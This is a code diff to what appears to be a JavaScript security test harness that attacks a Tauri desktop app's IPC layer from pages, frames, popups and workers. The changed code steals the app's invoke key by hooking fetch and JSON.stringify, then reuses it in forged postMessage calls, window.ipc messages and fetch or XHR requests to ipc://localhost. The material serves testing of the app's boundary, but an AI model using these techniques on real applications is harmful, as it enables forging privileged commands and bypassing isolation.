@@ -2,7 +2,8 @@
 
 (() => {
   const { attack, marker, WINDOWS, EVERYWHERE, wait } = adversary;
-  const FORGED = 'forged-invoke-key';
+  // The real one, once an attack has got hold of it.
+  let stolenKey = 'forged-invoke-key';
   const COMMAND = 'plugin:mashdesk|set_favourite';
   const payload = (name) => ({ mashup: marker(name), favourite: true });
   const message = (name, key) => JSON.stringify({
@@ -37,25 +38,6 @@
     return `${got.length} of ${names.length} commands were answered: ${got.slice(0, 5).join(', ')}`;
   }
 
-  attack('ipc.invoke', WINDOWS, async (role) => {
-    await bridged().__TAURI_INTERNALS__.invoke(COMMAND, payload('ipc.invoke'));
-    return `${COMMAND} was answered`;
-  });
-  attack('ipc.commands', ['page', 'frame', 'popup'], () => answered(adversary.config.commands));
-  attack('ipc.plugins', ['page', 'frame', 'popup'], () => answered(adversary.config.plugins));
-  attack('ipc.events', ['page', 'popup'], async () => {
-    const { invoke, transformCallback } = bridged().__TAURI_INTERNALS__;
-    const call = { event: 'change', target: { kind: 'Any' }, handler: transformCallback(() => {}) };
-    return `listens as ${await invoke('plugin:event|listen', call)}`;
-  });
-  attack('ipc.handler', WINDOWS, () => {
-    handler().postMessage(message('ipc.handler', FORGED));
-    return POSTED;
-  });
-  attack('ipc.window_ipc', WINDOWS, () => {
-    within('window.ipc', (it) => it?.ipc).postMessage(message('ipc.window_ipc', FORGED));
-    return POSTED;
-  });
   attack('ipc.stolen_key', ['page', 'frame', 'popup'], async () => {
     const it = bridged();
     const { fetch, JSON: json } = it;
@@ -76,13 +58,33 @@
       json.stringify = stringify;
     }
     if (!key) throw new Error('the key does not pass by');
+    stolenKey = key;
     handler().postMessage(message('ipc.stolen_key', key));
+    return POSTED;
+  });
+  attack('ipc.invoke', WINDOWS, async (role) => {
+    await bridged().__TAURI_INTERNALS__.invoke(COMMAND, payload('ipc.invoke'));
+    return `${COMMAND} was answered`;
+  });
+  attack('ipc.commands', ['page', 'frame', 'popup'], () => answered(adversary.config.commands));
+  attack('ipc.plugins', ['page', 'frame', 'popup'], () => answered(adversary.config.plugins));
+  attack('ipc.events', ['page', 'popup'], async () => {
+    const { invoke, transformCallback } = bridged().__TAURI_INTERNALS__;
+    const call = { event: 'change', target: { kind: 'Any' }, handler: transformCallback(() => {}) };
+    return `listens as ${await invoke('plugin:event|listen', call)}`;
+  });
+  attack('ipc.handler', WINDOWS, () => {
+    handler().postMessage(message('ipc.handler', stolenKey));
+    return POSTED;
+  });
+  attack('ipc.window_ipc', WINDOWS, () => {
+    within('window.ipc', (it) => it?.ipc).postMessage(message('ipc.window_ipc', stolenKey));
     return POSTED;
   });
   attack('ipc.post_message', WINDOWS, () => {
     for (const name of ['self', 'parent', 'top', 'opener']) {
-      self[name]?.postMessage(message('ipc.post_message', FORGED), '*');
-      self[name]?.postMessage(JSON.parse(message('ipc.post_message', FORGED)), '*');
+      self[name]?.postMessage(message('ipc.post_message', stolenKey), '*');
+      self[name]?.postMessage(JSON.parse(message('ipc.post_message', stolenKey)), '*');
     }
     return POSTED;
   });
@@ -92,18 +94,18 @@
     ['custom', `ipc://localhost/${path}`],
     ['localhost', `http://ipc.localhost/${path}`],
   ]) {
-    const headers = {
-      'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': FORGED,
-    };
+    const headers = () => ({
+      'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': stolenKey,
+    });
     attack(`ipc.fetch.${name}`, EVERYWHERE, async () => {
       const body = JSON.stringify(payload(`ipc.fetch.${name}`));
-      const answer = await fetch(address, { method: 'POST', headers, body });
+      const answer = await fetch(address, { method: 'POST', headers: headers(), body });
       return `the shell answered ${answer.status}: ${(await answer.text()).slice(0, 80)}`;
     });
     attack(`ipc.xhr.${name}`, ['page', 'foreign_frame', 'worker'], () => new Promise((got, refused) => {
       const request = new XMLHttpRequest();
       request.open('POST', address);
-      for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
+      for (const [name, value] of Object.entries(headers())) request.setRequestHeader(name, value);
       request.onload = () => got(`the shell answered ${request.status}`);
       request.onerror = () => refused(new Error('a network error'));
       request.send(JSON.stringify(payload(`ipc.xhr.${name}`)));
